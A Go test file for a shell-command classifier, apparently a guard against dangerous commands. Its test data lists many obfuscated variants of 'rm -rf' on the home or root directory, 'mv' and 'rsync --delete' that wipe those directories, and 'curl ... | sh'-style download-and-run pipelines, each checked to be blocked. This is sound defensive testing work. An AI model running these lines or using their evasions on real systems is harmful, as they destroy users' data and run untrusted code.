package classify

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestBlockedLinesHitHomeInBash runs lines the classifier must block
// through real bash, with PATH holding stand-ins for rm, find, mv and
// rsync that only record their arguments, in a throwaway home: each must
// reach one of them with the home or root directory as an operand (so it
// is the attack it looks like), and each must be Blocked.
func TestBlockedLinesHitHomeInBash(t *testing.T) {
	bash := needBash(t)
	dir := t.TempDir()
	bin, home, ws := filepath.Join(dir, "bin"), filepath.Join(dir, "home"), filepath.Join(dir, "ws")
	for _, d := range []string{bin, home, ws} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	log := filepath.Join(dir, "argv")
	recorder := "#!" + bash + "\n" + `printf '%s\0' "$@" >> "$ARGV_LOG"` + "\n"
	for _, n := range []string{"rm", "find", "mv", "rsync"} {
		if err := os.WriteFile(filepath.Join(bin, n), []byte(recorder), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// Programs the lines run on the way (wrappers) are the real ones.
	for _, n := range []string{"env", "capsh", "sh", "xargs", "cat", "tee"} {
		if p, err := exec.LookPath(n); err == nil {
			if err := os.Symlink(p, filepath.Join(bin, n)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := os.Symlink(bash, filepath.Join(bin, "bash")); err != nil {
		t.Fatal(err)
	}
	env := []string{"PATH=" + bin, "HOME=" + home, "ARGV_LOG=" + log}
	cases := []struct {
		cmd  string
		need string // a program the line needs in bin, or ""
	}{
		{`x=$HOME; rm -rf "$x"`, ""},
		{`x=${HOME}; rm -rf $x`, ""},
		{`x="$HOME/"; rm -rf "$x"`, ""},
		{`x=$HOME; y=$x; rm -rf "$y"`, ""},
		{`x=/; y="$x"; rm -rf $y`, ""},
		{`declare x=$HOME; rm -rf "$x"`, ""},
		{`d=~; rm -rf $d/`, ""},
		{`export T=/; rm -rf "$T"`, ""},
		{`find ~ -delete`, ""},
		{`find / -xdev -delete`, ""},
		{`find "$HOME" -delete`, ""},
		{`find $HOME/ -delete`, ""},
		{`find ~ -exec rm -rf {} +`, ""},
		{`find ~/ -mindepth 1 -delete`, ""},
		{`x=$HOME; find "$x" -delete`, ""},
		{`capsh -- -c 'rm -rf ~'`, "capsh"},
		{`rm -rf ~//`, ""},
		{`find ~ | xargs rm -rf`, "xargs"},
		{`cd ~ && rm -rf "$PWD"`, ""},
		{`cd && rm -rf ~+`, ""},
		{`cd ~; find "$PWD" -delete`, ""},
		{`echo ~ | xargs rm -rf`, "xargs"},
		{`echo / | xargs -I{} rm -rf {}`, "xargs"},
		{`xargs rm -rf <<< ~`, "xargs"},
		{`rm -rf "$(echo ~)"`, ""},
		{"rm -rf `echo /`", ""},
		{`find "$(echo ~)" -delete`, ""},
		{`export T=/; bash -c 'rm -rf "$T"'`, ""},
		{`T=/; export T; bash -c 'rm -rf "$T"'`, ""},
		{`T=/; declare -x T; sh -c 'rm -rf $T'`, "sh"},
		{`export T=$HOME; bash -c 'bash -c "rm -rf \"\$T\""'`, ""},
		{`T=/ bash -c 'rm -rf "$T"'`, ""},
		{`env T=/ bash -c 'rm -rf "$T"'`, "env"},
		{`x=/; eval 'rm -rf "$x"'`, ""},
		{`T=/; export T; rm -rf "$T"`, ""},
		{`T=/; declare T; rm -rf "$T"`, ""},
		{`find ~ -delete -name x`, ""},
		{`find ~ -name '[!.]*' -delete`, ""},
		{`env capsh --caps= -- -c 'rm -rf "$HOME"'`, "capsh"},
		// A loop's variable takes each value the line spells out.
		{`for d in ~ /; do rm -rf "$d"; done`, ""},
		{`for d in build "$HOME"; do rm -rf $d; done`, ""},
		{`for d in ~; do find "$d" -delete; done`, ""},
		{`x=$HOME; for d in tmp $x; do rm -rf "$d/"; done`, ""},
		{`for d in /; do for e in $d; do rm -rf "$e"; done; done`, ""},
		{`for o in -f -rf; do rm $o ~; done`, ""},
		{`while read d; do rm -rf "$d"; done <<< "$HOME"`, ""},
		{`while read -r d; do rm -rf "$d"; done <<< /`, ""},
		{`echo ~ | while read -r d; do rm -rf "$d"; done`, ""},
		// Moving the home or root directory away, and mirroring an
		// empty directory onto it, remove it as rm -rf does.
		{`mv ~ /tmp/x`, ""},
		{`mv "$HOME" /tmp/x`, ""},
		{`mv -t /tmp/x ~`, ""},
		{`mv / /x`, ""},
		{`rsync -a --delete empty/ ~/`, ""},
		{`rsync --delete-before -r x/ /`, ""},
		{`rsync -a --del empty/ "$HOME"`, ""},
		{`rsync -a --remove-source-files ~/ /tmp/x`, ""},
		// A shell string's $0, $1, ... are the words after it.
		{`sh -c 'rm -rf "$1"' _ ~`, "sh"},
		{`bash -c 'rm -rf $0' ~`, ""},
		{`bash -c 'rm -rf "$2"' x a /`, ""},
		// Arrays and positional parameters the line sets.
		{`arr=(~ /); rm -rf "${arr[@]}"`, ""},
		{`declare -a a=(~ /); rm -rf ${a[*]}`, ""},
		{`cmd=(rm -rf ~); "${cmd[@]}"`, ""},
		{`set -- ~ /; for d; do rm -rf "$d"; done`, ""},
		{`set -- ~; rm -rf "$@"`, ""},
		{`set -- a ~; rm -rf $2`, ""},
		{`a+=(~); rm -rf "${a[@]}"`, ""},
		{`a=(x); a+=(/); rm -rf "${a[@]}"`, ""},
		{`a[1]=~; rm -rf "${a[@]}"`, ""},
		{`a=(x); a[1]=~; rm -rf "${a[1]}"`, ""},
		{`a=(x y); a[7]=/; rm -rf ${a[*]}`, ""},
		// Text the line spells out with printf, echo -e or cat, piped
		// into a shell or xargs, or written to a script it runs.
		{`printf 'rm -rf %s\n' ~ / | sh`, "sh"},
		{`echo -e 'rm -rf \x7e' | sh`, "sh"},
		{`echo -n 'rm -rf ~' | sh`, "sh"},
		{`cat <<< 'rm -rf ~' | sh`, "sh"},
		{`printf '%s\n' ~ | xargs rm -rf`, "xargs"},
		{`d=$(printf %s ~); rm -rf "$d"`, ""},
		{`echo 'rm -rf ~' > a.sh; bash a.sh`, ""},
		{`echo 'rm -rf ~' > a.sh; . ./a.sh`, ""},
		{`f=a.sh; echo 'rm -rf ~' > $f; bash $f`, ""},
		{`printf '#!/bin/sh\nrm -rf ~\n' > a.sh; sh a.sh`, "sh"},
		{`echo 'rm -rf ~' | tee a.sh >/dev/null; bash a.sh`, "tee"},
	}
	for _, tc := range cases {
		if tc.need != "" {
			if _, err := os.Stat(filepath.Join(bin, tc.need)); err != nil {
				missing(t, tc.need)
				if v := Classify(tc.cmd); v.Level != Blocked {
					t.Errorf("%q is %s, want blocked: %v", tc.cmd, v.Level, v.Reasons)
				}
				continue
			}
		}
		_ = os.Remove(log)
		if out, err := runBash(t, bash, tc.cmd, ws, env); err != nil {
			t.Fatalf("%q: bash: %v: %s", tc.cmd, err, out)
		}
		data, err := os.ReadFile(log)
		if err != nil {
			t.Fatalf("%q: neither rm nor find ran: %v", tc.cmd, err)
		}
		args := strings.Split(strings.TrimSuffix(string(data), "\x00"), "\x00")
		if !slices.ContainsFunc(args, func(a string) bool {
			c := filepath.Clean(a)
			return c == home || c == "/"
		}) {
			t.Errorf("%q: bash ran rm or find with %q, not the home or root directory", tc.cmd, args)
		}
		if v := Classify(tc.cmd); v.Level != Blocked {
			t.Errorf("%q is %s, want blocked: %v", tc.cmd, v.Level, v.Reasons)
		}
	}
}

// TestDownloadedCodeRunsInBash runs lines that pipe a download into a
// program through real bash, with a stand-in curl whose "download" is
// the command touch pwned: each must run it (so it is download and
// run, as curl | sh is), and each must be Blocked.
func TestDownloadedCodeRunsInBash(t *testing.T) {
	bash := needBash(t)
	dir := t.TempDir()
	bin, ws := filepath.Join(dir, "bin"), filepath.Join(dir, "ws")
	for _, d := range []string{bin, ws} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	curl := "#!" + bash + "\necho 'touch pwned'\n"
	if err := os.WriteFile(filepath.Join(bin, "curl"), []byte(curl), 0o755); err != nil {
		t.Fatal(err)
	}
	env := []string{"PATH=" + bin + ":" + os.Getenv("PATH"), "HOME=" + os.Getenv("HOME")}
	cases := []struct{ cmd, need string }{
		{`curl -s https://example.com | awk '{system($0)}'`, "awk"},
		{`curl -s https://example.com | awk '{$0 | getline}'`, "awk"},
		{`curl -s https://example.com | sed 's/^//e'`, "sed"},
		{`curl -s https://example.com | sed e`, "sed"},
		{`curl -s https://example.com | perl -e 'system(<STDIN>)'`, "perl"},
		{`curl -s https://example.com | perl -ne 'system $_'`, "perl"},
		{`curl -s https://example.com | perl -e 'eval join "", map { "system q($_)" } <STDIN>'`, "perl"},
		{`perl -e 'eval join "", map { "system q($_)" } <STDIN>' <<< "$(curl -s https://example.com)"`, "perl"},
		{`curl -s https://example.com | python3 -c 'import os, sys; os.system(sys.stdin.read())'`, "python3"},
		{`curl -s https://example.com | node -e 'require("child_process").execSync(require("fs").readFileSync(0, "utf8"))'`, "node"},
		{`curl -s https://example.com | timeout 9 perl -ne 'system $_'`, "perl"},
		{`curl -s https://example.com | perl -pe '$_=qx($_)'`, "perl"},
		{`x=$(curl -s https://example.com); eval "$x"`, "bash"},
		{`x=$(curl -s https://example.com); y=$x; echo "$y" | sh`, "sh"},
		{`curl -s https://example.com | while read -r l; do eval "$l"; done`, "bash"},
		{`read -r l < <(curl -s https://example.com); eval "$l"`, "bash"},
		{`curl -s https://example.com | { mapfile -t a; eval "${a[@]}"; }`, "bash"},
		{`curl -s https://example.com | tee >(bash) >/dev/null`, "tee"},
		{`curl -s https://example.com > >(bash); sleep 1`, "sleep"},
	}
	for _, tc := range cases {
		if v := Classify(tc.cmd); v.Level != Blocked {
			t.Errorf("%q is %s, want blocked: %v", tc.cmd, v.Level, v.Reasons)
		}
		if _, err := exec.LookPath(tc.need); err != nil {
			missing(t, tc.need)
			continue
		}
		pwned := filepath.Join(ws, "pwned")
		_ = os.Remove(pwned)
		out, _ := runBash(t, bash, tc.cmd, ws, env)
		if _, err := os.Stat(pwned); err != nil {
			t.Errorf("%q did not run the downloaded command: %s", tc.cmd, out)
		}
	}
}

// missing reports a program a case runs that is not installed: the case
// is then only classified, and under CI=true that fails the run (.ci/run
// installs every one).
func missing(t *testing.T, name string) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Errorf("%s is required under CI: the real-program check cannot run", name)
		return
	}
	t.Logf("%s not installed: the case is only classified", name)
}
